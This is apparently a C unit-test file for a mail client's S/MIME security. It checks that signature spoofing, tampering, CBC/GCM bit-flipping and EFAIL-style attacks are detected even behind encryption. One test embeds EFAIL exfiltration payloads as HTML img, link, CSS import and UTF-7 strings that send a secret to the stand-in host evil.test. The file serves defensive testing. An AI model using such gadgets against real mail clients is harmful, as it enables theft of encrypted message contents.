/* Attacks behind an encrypted layer: nothing that does not hold in clear
 * holds there, and what was changed on the way is not shown. */
#include "core/base/error.h"
#include "core/mail/incoming_internal.h"
#include "tests/mail/gadget.h"

#define ROBERT "From: Robert <robert@demo.test>\r\n"

/* Text with a piece of it replaced, in a copy. */
static GBytes *
replaced(GBytes *entity, const char *old, const char *new)
{
    g_autofree char *text = text_of(entity);
    g_auto(GStrv) halves = g_strsplit(text, old, 2);
    assert_int_equal(g_strv_length(halves), 2);
    char *out = g_strconcat(halves[0], new, halves[1], NULL);
    return g_bytes_new_take(out, strlen(out));
}

static void
expect_state(const People *people, const char *name, const char *fields,
             GBytes *entity, const char *cipher, const char *want)
{
    g_autoptr(GBytes) body = seal(people, entity, cipher);
    g_autoptr(GBytes) message = message_of(people, fields, body);
    g_autoptr(Judgement) got = judge_opened(people, message);
    g_autofree char *reasons = reasons_of(got);
    g_autofree char *said =
        g_strdup_printf("%s %s %s", got->state, got->signature, reasons);
    if (strcmp(said, want) != 0)
        fail_msg("%s in %s: \"%s\", want \"%s\"", name, cipher, said, want);
}

/* The shapes of SEC-09 to 20, each made of a good message of claire's. */
static GBytes *
two_signers(const People *people)
{
    g_autofree char *cert = person_file(people, "alice", ".pem");
    g_autofree char *key = person_file(people, "alice", ".key");
    return sign(people, "claire", ENTITY, "-signer", cert, "-inkey", key,
                NULL);
}

static GBytes *
no_attributes(const People *people)
{
    return sign(people, "claire", ENTITY, "-noattr", NULL);
}

static GBytes *
sha1(const People *people)
{
    return sign(people, "claire", ENTITY, "-md", "sha1", NULL);
}

static GBytes *
altered(const People *people)
{
    g_autoptr(GBytes) good = sign(people, "claire", ENTITY, NULL);
    return replaced(good, "Hello", "Hallo");
}

static GBytes *
epilogue(const People *people)
{
    g_autoptr(GBytes) good = sign(people, "claire", ENTITY, NULL);
    g_autofree char *text = text_of(good);
    g_strchomp(text);
    char *out = g_strconcat(text, "\r\nP.S. pay now\r\n", NULL);
    return g_bytes_new_take(out, strlen(out));
}

static GBytes *
remote(const People *people)
{
    return sign(people, "claire",
                "Content-Type: text/html\r\n\r\n"
                "<img src=\"http://elsewhere.test/x.png\">\r\n",
                NULL);
}

static GBytes *
one_part(const People *people)
{
    return text_bytes("Content-Type: multipart/signed; boundary=b; "
                      "protocol=\"application/pkcs7-signature\"\r\n\r\n"
                      "--b\r\n" ENTITY "\r\n--b--\r\n");
}

static GBytes *
by(const People *people, const char *who)
{
    return sign(people, who, ENTITY, NULL);
}

static GBytes *
by_stranger(const People *people)
{
    return by(people, "etranger");
}

static GBytes *
by_revoked(const People *people)
{
    return by(people, "revoque");
}

static GBytes *
by_expired(const People *people)
{
    return by(people, "ancien");
}

static GBytes *
by_web_server(const People *people)
{
    return by(people, "web");
}

static GBytes *
by_another(const People *people)
{
    return by(people, "robert");
}

static GBytes *
good(const People *people)
{
    return by(people, "claire");
}

static const struct {
    const char *name;
    GBytes *(*make)(const People *people);
    const char *fields, *want;
} shapes[] = {
    {"nothing wrong", good, CLAIRE, "confidential verified "},
    {"sec_09: two signers", two_signers, CLAIRE,
     "unprotected several-signers several-signers"},
    {"sec_10: one part", one_part, CLAIRE, "unprotected malformed malformed"},
    {"sec_12: no attributes", no_attributes, CLAIRE, "unprotected weak weak"},
    {"sec_13: SHA-1", sha1, CLAIRE, "unprotected weak weak"},
    {"altered", altered, CLAIRE, "unprotected altered altered"},
    {"sec_14: a stranger", by_stranger,
     "From: jean.personne@cabinet-inconnu.test\r\n",
     "unprotected unknown-issuer unknown-issuer"},
    {"sec_14: revoked", by_revoked, "From: paul@demo.test\r\n",
     "unprotected revoked revoked"},
    {"sec_14: a web server's", by_web_server, "From: web@demo.test\r\n",
     "unprotected wrong-usage wrong-usage"},
    {"sec_15: another's", by_another, CLAIRE,
     "unprotected address-mismatch address-mismatch"},
    {"sec_16: two From", good, CLAIRE ROBERT,
     "unprotected malformed malformed"},
    {"sec_16: two subjects", good, CLAIRE "Subject: a\r\nSubject: b\r\n",
     "unprotected malformed malformed"},
    {"sec_17: another day", good,
     CLAIRE "Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n",
     "unprotected verified time-skew"},
    {"sec_17: expired", by_expired, "From: nadia@demo.test\r\n",
     "unprotected expired expired,unchecked"},
    {"sec_20: behind the end", epilogue, CLAIRE,
     "unprotected verified outside-signature"},
    {"sec_40: remote content", remote, CLAIRE,
     "unprotected verified remote-content"},
};

static void
sec_09_to_20_hold_behind_encryption(void **state)
{
    static const char *const ciphers[] = {"-aes-256-gcm", "-aes256"};
    People *people = *state;
    for (gsize i = 0; i < G_N_ELEMENTS(shapes); i++) {
        g_autoptr(GBytes) entity = shapes[i].make(people);
        for (gsize j = 0; j < G_N_ELEMENTS(ciphers); j++)
            expect_state(people, shapes[i].name, shapes[i].fields, entity,
                         ciphers[j], shapes[i].want);
    }
}

#define LONG_TEXT                                                            \
    "Content-Type: text/html\r\n\r\n<p>The quick brown fox jumps over the "  \
    "lazy dog, and once more over the other one, and again.</p>\r\n"

/* What a page gets of changed is NULL: it was refused. */
static Incoming *
show(const People *people, GBytes *body, GBytes *key)
{
    g_autoptr(GBytes) message = message_of(people, CLAIRE, body);
    g_autoptr(GError) error = NULL;
    Judgement *judgement = judge_with(people, message, key, &error);
    /* Noise that looks like parts may be too much of them. */
    if (judgement == NULL && app_error_code(error) == APP_ERROR_TOO_COMPLEX)
        return NULL;
    if (judgement == NULL) {
        assert_int_equal(app_error_code(error), APP_ERROR_MALFORMED);
        assert_string_equal(error->message, "message: cannot be decrypted");
        return NULL;
    }
    Incoming *got = incoming_of(message, people->now, judgement, &error);
    if (got == NULL)
        fail_msg("%s", error->message);
    return got;
}

static gsize
content_size(GBytes *message)
{
    g_autoptr(GBytes) cms = cms_of(message);
    g_autoptr(EnvelopedData) data = enveloped_data_read(cms, NULL);
    return data->size;
}

static void
sec_30_a_bit_of_any_block_in_gcm_refuses_all(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) body = seal_text(people, LONG_TEXT, "-aes-256-gcm");
    g_autoptr(GBytes) key = content_key_of(people, "alice", body);
    for (gsize at = 0; at < content_size(body); at += 8) {
        g_autoptr(GBytes) changed = gadget_flip(body, at);
        assert_null(show(people, changed, key));
    }
}

static void
sec_30_a_bit_of_any_block_in_cbc_is_never_more_than_text(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) body = seal_text(people, LONG_TEXT, "-aes256");
    g_autoptr(GBytes) key = content_key_of(people, "alice", body);
    guint shown = 0;
    for (gsize at = 0; at < content_size(body); at += 8) {
        g_autoptr(GBytes) changed = gadget_flip(body, at);
        g_autoptr(Incoming) got = show(people, changed, key);
        if (got == NULL)
            continue;
        shown++;
        assert_false(got->html_allowed || got->remote);
        assert_int_equal(got->htmls->len, 0);
        assert_string_not_equal(got->judgement->state, "confidential");
    }
    assert_true(shown > 0);
}

static void
sec_30_a_bit_of_any_block_around_a_signature_is_altered(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) inner = sign(people, "claire", LONG_TEXT, NULL);
    g_autoptr(GBytes) body = seal(people, inner, "-aes256");
    g_autoptr(GBytes) key = content_key_of(people, "alice", body);
    for (gsize at = 0; at < content_size(body); at += 64) {
        g_autoptr(GBytes) changed = gadget_flip(body, at);
        g_autoptr(Incoming) got = show(people, changed, key);
        if (got == NULL)
            continue;
        /* Not every octet of the delimiters counts. */
        if (strcmp(got->judgement->signature, "verified") == 0)
            continue;
        assert_string_not_equal(got->judgement->state, "confidential");
        assert_false(got->html_allowed);
    }
}

/* EFAIL-MG: known beginnings turned into the attacker's own. */
static void
sec_30_a_gadget_draws_nothing_and_is_not_quoted(void **state)
{
    static const char *const texts[] = {
        "Content-Type: text/html\r\n\r\n<img "
        "src=\"http://evil.test/?\r\nSECRET"
        "\">",
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
        "Content-Type: text/html\r\n\r\n<a href=\"http://evil.test/?SECRET\">"
        "x</a>\r\n--m--\r\n",
        "Content-Type: multipart/related; boundary=m\r\n\r\n--m\r\n"
        "Content-Type: text/html\r\n\r\n<style>@import 'http://evil.test'"
        "</style>SECRET\r\n--m--\r\n",
        "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src=SECRET",
    };
    People *people = *state;
    g_autoptr(GBytes) body = seal_text(people, ENTITY, "-aes-256-gcm");
    g_autoptr(GBytes) key = content_key_of(people, "alice", body);
    for (gsize i = 0; i < G_N_ELEMENTS(texts); i++) {
        g_autoptr(GBytes) gadget = gadget_cbc(people, body, key, texts[i]);
        g_autoptr(Incoming) got = show(people, gadget, key);
        assert_non_null(got);
        assert_string_equal(got->judgement->state, "encrypted-unverified");
        assert_false(got->html_allowed || got->remote);
        assert_int_equal(got->htmls->len + got->quotable->len, 0);
    }
}

/* RFC 9787 §6.2.2: an encrypted layer in a signed one of the attacker. */
static void
sec_19_a_signature_put_around_anothers_envelope_claims_nothing(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) sealed = seal_text(people, ENTITY, "-aes-256-gcm");
    g_autofree char *text = text_of(sealed);
    g_autoptr(GBytes) body = sign(people, "robert", text, NULL);
    g_autoptr(GBytes) message = message_of(people, ROBERT, body);
    g_autoptr(Judgement) got = judge_opened(people, message);
    assert_string_equal(got->state, "encrypted-unverified");
    assert_string_equal(got->signature, "none");
    assert_null(got->fingerprint);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(sec_09_to_20_hold_behind_encryption),
        cmocka_unit_test(sec_30_a_bit_of_any_block_in_gcm_refuses_all),
        cmocka_unit_test(
            sec_30_a_bit_of_any_block_in_cbc_is_never_more_than_text),
        cmocka_unit_test(
            sec_30_a_bit_of_any_block_around_a_signature_is_altered),
        cmocka_unit_test(sec_30_a_gadget_draws_nothing_and_is_not_quoted),
        cmocka_unit_test(
            sec_19_a_signature_put_around_anothers_envelope_claims_nothing),
    };
    return cmocka_run_group_tests(tests, people_set_up, people_tear_down);
}
